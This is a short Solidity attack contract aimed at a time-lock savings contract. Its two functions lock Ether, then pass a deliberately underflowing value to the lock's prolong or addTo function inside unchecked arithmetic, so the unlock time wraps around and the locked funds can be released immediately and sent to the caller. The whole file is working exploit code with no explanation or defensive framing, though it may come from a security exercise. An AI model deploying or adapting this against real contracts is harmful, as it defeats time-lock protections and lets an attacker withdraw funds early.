// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ILock {
    function lock(uint256 term) external payable;

    function prolong(uint256 byTime) external;

    function addTo(uint256 byTime) external payable;

    function release(address to) external;

    function locks(address saver) external view returns (uint256, uint256, uint256, address);
}

/// Prolongs a lock around the end of time, so that it ends at once.
contract ShortYear {
    function run(ILock each, uint256 term, uint256 times) external payable {
        for (uint256 i = 0; i < times; i++) {
            each.lock{value: msg.value}(term);
            (, , uint256 end, ) = each.locks(address(this));
            unchecked {
                each.prolong(block.timestamp - end);
            }
            each.release(address(this));
        }
        payable(msg.sender).transfer(address(this).balance);
    }

    /// The same while adding to the lock; it ends in 1970.
    function runAdding(ILock each, uint256 term) external payable {
        each.lock{value: msg.value - 1 ether}(term);
        (, , uint256 end, ) = each.locks(address(this));
        unchecked {
            each.addTo{value: 1 ether}(0 - end);
        }
        each.release(msg.sender);
    }

    receive() external payable {}
}
